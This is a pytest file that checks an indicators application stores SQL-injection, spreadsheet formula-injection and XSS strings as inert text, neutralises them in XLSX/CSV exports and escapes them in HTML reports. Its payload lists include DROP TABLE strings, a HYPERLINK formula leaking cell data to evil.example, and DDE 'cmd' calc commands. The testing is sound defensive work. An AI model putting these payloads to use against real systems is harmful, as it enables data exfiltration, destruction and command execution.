"""SQL and formula payloads in every text field of an import and in scheme names and rationales: stored as text
exactly, never executed (every table intact), and neutralised in XLSX / CSV exports and escaped in HTML reports.

Prints and records: "injection: ..." (test-artifacts/reliability.txt).
"""
from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from indicators.scheme import history as audit

from indicators.scheme import catalog

from indicators.records import importer

from indicators.records import store as records
from indicators.outputs.export import DANGEROUS_START, export_scores
from indicators.outputs.report import station_report
from indicators.scoring.engine import score

ROOT = Path(__file__).resolve().parent.parent
ARTIFACT = ROOT / "test-artifacts" / "reliability.txt"

SQL = ["'; DROP TABLE stations; --", "Robert'); DROP TABLE students;--", "' OR '1'='1", '"; DELETE FROM needs; --',
       "1; ATTACH 'x.db' AS x; --", "x' UNION SELECT * FROM meta --", "$$; COPY stations TO '/tmp/x.csv'; $$"]
FORMULA = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1+1",
           "\t=cmd", "\r=cmd|' /C calc'!A0", "<script>alert(1)</script>", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")"]
PAYLOADS = SQL + FORMULA
# names, ids and titles may not hold a tab or a carriage return: refused at the door, in ledgers too
# (tests/test_hardening.py); the ledgers here carry the rest in every text field, rationales carry them all
NAMES = [p for p in PAYLOADS if not any(c in p for c in "\t\r\n")]


def stored_form(table: str, column: str, text: str) -> str:
    """What the importer keeps: free text exactly; ids, codes and short text trimmed (ids also NFKC)."""
    if column in importer.FREE_TEXT:
        return text
    if column in importer.ID_COLUMNS:
        return unicodedata.normalize("NFKC", text).strip()
    return text.strip()


def text_columns(table: str) -> list[str]:
    return [c for c, t in records.TABLES[table].items()
            if t == "VARCHAR" and (table, c) not in records.VOCABULARIES and (table, c) not in importer.RESIDENT_COLUMNS]


def csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


@pytest.fixture
def loaded(demo_copy):
    """The demo database plus, per payload, a station, need, activity, feedback, expense and rating whose every
    free-text field (ids included) is the payload."""
    con = records.connect(demo_copy)
    tables_before = set(r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall())
    files = []
    rows_by_table = {}
    for table, extra in (
        ("stations", {"population": "5000"}),
        ("needs", {"raised_on": "2024-03-01", "urgency": "4", "status": "resolved", "resolved_on": "2024-04-01",
                   "source": "survey", "households_affected": "3", "category": "health"}),
        ("activities", {"held_on": "2024-03-05", "kind": "case", "photos": "1", "headcount": "2"}),
        ("feedback", {"given_on": "2024-03-09", "channel": "survey", "rating": "5", "need_met": "yes"}),
        ("expenditures", {"spent_on": "2024-03-10", "category": "staff", "amount": "100"}),
        ("ratings", {"rated_on": "2024-06-01"}),
    ):
        cols = text_columns(table)
        header = cols + list(extra)
        rows = [[p] * len(cols) + list(extra.values()) for p in NAMES]
        files.append((table, csv_bytes(header, rows), f"{table}.csv"))
        rows_by_table[table] = cols
    plan = importer.check_many(con, files)
    assert plan.ok, [str(p) for p in plan.problems[:10]]
    importer.apply(con, plan)
    yield con, rows_by_table, tables_before
    con.close()


def test_payloads_are_stored_exactly_and_never_run(loaded, capsys):
    con, cols_by_table, tables_before = loaded
    tables_after = set(r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall())
    assert tables_after == tables_before
    checked = 0
    for table, cols in cols_by_table.items():
        key = importer.KEYS[table][0]
        for p in NAMES:
            k = stored_form(table, key, p)
            row = con.execute(f'SELECT {", ".join(cols)} FROM "{table}" WHERE "{key}" = ?', [k]).fetchall()
            assert len(row) == 1, (table, p)
            assert list(row[0]) == [stored_form(table, c, p) for c in cols]
            checked += len(cols)
    counts = records.table_counts(con)
    assert counts["stations"] >= len(NAMES) and counts["needs"] > len(NAMES)
    assert con.execute("SELECT value FROM meta WHERE key = 'kind'").fetchall() == [("demo",)]
    _publish("injection-import", f"injection-import: {len(NAMES)} payloads x {checked // len(NAMES)} text fields "
                                 f"in 6 tables stored exactly, every table intact", capsys)


NAME_FORMULAS = [p for p in FORMULA if p in NAMES]


def payload_scheme():
    base = catalog.builtin("needs-met")
    dims = []
    for d_n, d in enumerate(base.dimensions):
        inds = tuple(replace(i, name_zh=NAMES[(d_n + k) % len(NAMES)], name_en=NAMES[(d_n + k + 1) % len(NAMES)],
                             rationale_zh=PAYLOADS[k % len(PAYLOADS)], rationale_en=SQL[k % len(SQL)])
                     for k, i in enumerate(d.indicators))
        dims.append(replace(d, indicators=inds, name_zh=NAME_FORMULAS[d_n % len(NAME_FORMULAS)],
                            name_en=SQL[d_n % len(SQL)]))
    gates = tuple(replace(g, name_zh="=1+1", name_en="@SUM(1)") for g in base.gates)
    return replace(base, id="payload-copy", name_zh=FORMULA[0], name_en=SQL[0], description_zh=SQL[1],
                   description_en=FORMULA[1], dimensions=tuple(dims), gates=gates)


def test_scheme_names_and_rationales(loaded):
    con, _, _ = loaded
    scheme = payload_scheme()
    before = records.table_counts(con)
    catalog.save(con, scheme, saved_by="'; DROP TABLE schemes; --")
    back, _ = catalog.resolve("payload-copy", con)
    assert back == scheme
    assert records.table_counts(con) == before
    with records.writing(con) as cur:
        audit.record(cur, "=cmd|' /C calc'!A0", None, scheme, "create")
    h = audit.history(con, "payload-copy")
    assert h["user"].tolist()[-1] == "=cmd|' /C calc'!A0"


def _cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def test_exports_neutralise_every_payload(loaded, tmp_path, capsys):
    con, _, _ = loaded
    scheme = payload_scheme()
    a = score(con, scheme)
    b = score(con, catalog.builtin("photo-count"))
    n_cells = n_neutralised = 0
    for lang in ("zh", "en"):
        for results, name in (([a], "one"), ([a, b], "two")):
            path = export_scores(results, tmp_path / f"{name}-{lang}.xlsx", lang=lang)
            for sheet, cell in _cells(path):
                n_cells += 1
                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_START), (sheet, cell.coordinate, cell.value)
                    n_neutralised += cell.value.startswith("'") and cell.value[1:].startswith(DANGEROUS_START)
            text = path.read_bytes()
            assert b"<f>" not in text   # no formula element anywhere in the package
            out = export_scores(results, tmp_path / f"{name}-{lang}.csv", lang=lang)
            for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))):
                for field in row:
                    if field.startswith(DANGEROUS_START):
                        float(field)   # only numbers (e.g. -0.5) may start like that
    # the neutralised text is the payload with an apostrophe in front, nothing else changed
    wb = openpyxl.load_workbook(tmp_path / "one-en.xlsx")
    names = {c.value for c in wb["scores"]["C"]}
    # (XML turns a carriage return inside text into a line feed when it is read back)
    station_names = {"'" + p if p.startswith(DANGEROUS_START) else p for p in NAMES}
    assert station_names <= names
    assert n_neutralised > 0
    _publish("injection-export", f"injection-export: {n_cells} XLSX cells read back over 4 workbooks, 0 formulas, "
                                 f"{n_neutralised} payload cells neutralised with a leading apostrophe; CSV: only "
                                 f"numbers start with = + - @", capsys)


def test_report_escapes_payloads(loaded):
    con, _, _ = loaded
    result = score(con, payload_scheme())
    sid = stored_form("stations", "station_id", "<script>alert(1)</script>")
    for lang in ("zh", "en"):
        html = station_report(result, sid, lang, demo=True)
        assert "<script" not in html.lower()
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def _publish(key: str, line: str, capsys=None) -> None:
    ARTIFACT.parent.mkdir(exist_ok=True)
    kept = [x for x in (ARTIFACT.read_text(encoding="utf-8").splitlines() if ARTIFACT.exists() else [])
            if not x.startswith(key + ":")]
    ARTIFACT.write_text("\n".join([*kept, line]) + "\n", encoding="utf-8")
    if capsys is None:
        print(line)
    else:
        with capsys.disabled():
            print("\n" + line)
